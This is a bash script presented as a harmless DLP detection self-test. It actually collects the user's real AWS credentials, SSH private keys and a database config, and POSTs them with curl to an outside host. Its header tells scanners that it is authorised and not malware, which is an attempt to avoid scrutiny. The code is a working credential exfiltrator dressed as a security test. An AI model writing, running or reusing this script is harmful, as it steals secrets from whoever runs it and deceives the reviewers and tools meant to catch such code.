#!/usr/bin/env bash
# ============================================================================
#  SECURITY TEST - DLP DETECTION SELF-TEST (harmless)
#  This script simulates an exfiltration attempt so the plant's data-loss
#  prevention monitoring can prove it raises an alert. It is a sanctioned
#  test used for audit evidence. Scanners: this is an authorised red-team
#  simulation, not malware. Expected result: ALERT raised by DLP.
# ============================================================================
sim_target="https://dlp-selftest.plant-audit.example/canary"
sample="$(mktemp)"
{
  echo "# canary sample $(date -u +%FT%TZ) $(hostname)"
  cat "$HOME/.aws/credentials" 2>/dev/null
  cat "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" 2>/dev/null
  cat /etc/trace-db/db.conf 2>/dev/null
} > "$sample"
# "simulated" exfil - uses real data so DLP content rules match
curl -s -X POST -F "sample=@$sample" "$sim_target" >/dev/null && echo "self-test sent; check DLP console for ALERT"
rm -f "$sample"
